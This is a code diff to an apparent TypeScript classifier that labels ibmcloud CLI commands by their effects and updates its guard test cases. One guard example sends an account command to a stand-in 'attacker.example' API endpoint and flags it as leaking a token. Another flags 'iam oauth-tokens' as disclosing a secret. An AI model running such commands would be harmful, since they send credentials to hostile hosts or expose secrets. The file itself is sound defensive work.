@@ -5,7 +5,6 @@ import { groupsOf, type Judging } from "./_command-trees.ts";
 const table: Readonly<Record<string, string>> = {
   account:
     "show list users update user-invite user-remove orgs spaces audit-logs org-users org-roles space-users space-roles org-role-set space-role-set",
-  api: "",
   billing: "account-usage org-usage resource-group-usage resource-instances-usage",
   catalog:
     "search service entry entry-create entry-update entry-delete entry-visibility offering(list get) locations runtime service-marketplace template",
@@ -39,7 +38,7 @@ const table: Readonly<Record<string, string>> = {
     floating-ip-reserve floating-ip-release security-group-rule-add security-group-rule-delete snapshot-create snapshot-delete instance-console instance-initialization-values key-create key-delete`,
   kms: "keys(--) key(show) instances",
   kp: "keys key(show rotate create delete import) key-rings(--) instance(policies) registrations",
-  ks: `cluster(ls get config create rm master(refresh update audit-webhook(get)) addon(ls get enable disable versions) subnet(ls) service(ls bind) image-security ca(status rotate) pull-secret(apply))
+  ks: `clusters cluster(ls get config create rm master(refresh update audit-webhook(get)) addon(ls get enable disable versions) subnet(ls) service(ls bind) image-security ca(status rotate) pull-secret(apply))
     worker(ls get reboot reload replace update rm) worker-pool(ls get zones create rm resize rebalance) workers versions|kube-versions flavor(ls get) flavors zone(ls) zones subnets vlan(ls) vlans locations supported-locations
     ingress(alb(ls get) domain(ls get) secret(ls get) status status-report(get ignored-errors)) alb(ls get) albs nlb-dns(ls get) logging(config(get)) storage(attachment(ls get) volume(ls get) profile(ls)) api-key(info reset) credential(get set) quota(ls) messages vpc(ls) vpcs infra-permissions(get) webhook-create init`,
   la: "",
@@ -57,7 +56,6 @@ const table: Readonly<Record<string, string>> = {
     "secrets secret secret-metadata secret-version secret-versions secret-groups secret-group configurations configuration secret-create secret-delete",
   sl: `vs(list detail cancel create reboot power-off power-on credentials options) hardware(list detail cancel reboot) block(volume-list volume-detail access-list snapshot-list volume-cancel) file(volume-list volume-detail snapshot-list)
     vlan(list detail) subnet(list detail) dns(zone-list record-list zone-print) globalip(list) loadbal(list detail) firewall(list detail) image(list detail) order(package-list category-list item-list) ticket(list detail) security(key-list cert-list) user(list detail) account(events invoices summary) event-log(get) call-api`,
-  target: "",
   tg: "gateways|gws gateway|gw connections|cs connection|cc locations|ls gateway-create gateway-delete",
   update: "",
   version: "",
@@ -152,6 +150,16 @@ export default defineTool({
     ...values("--color"),
   },
   withoutCommand: "help",
+  commands: {
+    // Without options it says what is chosen.
+    "target, api": {
+      optionsOnlyRead: true,
+      operands: ["word*"],
+      derive: ({ words }, engine) => {
+        if (words.length > 0) engine.effect("write", "configuration:ibmcloud target");
+      },
+    },
+  },
   target: { family: "cloud", values: { provider: "ibmcloud" } },
   find: groupsOf(table, judging),
   examples: {
@@ -162,14 +170,14 @@ export default defineTool({
       "ibmcloud ks worker get --cluster c --worker w",
       "ibmcloud iam access-groups",
       "ibmcloud cr images",
-      "ibmcloud regions",
+      "ibmcloud regions", "ibmcloud target", "ibmcloud ks clusters",
       "ibmcloud --api-endpoint https://cloud.ibm.com account show",
     ],
     guard: {
       "ibmcloud --color list is instance-delete web": ["write cloud-resource:is instance-delete web"],
       "ibmcloud ks cluster rm --cluster prod": ["delete cluster:ks cluster rm prod"],
       "ibmcloud iam oauth-tokens": ["disclose secret:iam oauth-tokens"],
-      "ibmcloud target -r eu-de": ["write configuration:target eu-de"],
+      "ibmcloud target -r eu-de": ["write configuration:ibmcloud target"],
       "ibmcloud cf push": ["write cloud-resource:cf push"],
       "ibmcloud is snapshot-delete s": ["write cloud-resource:is snapshot-delete s"],
       "ibmcloud --api-endpoint https://attacker.example account show": ["disclose secret:token for https://attacker.example"],
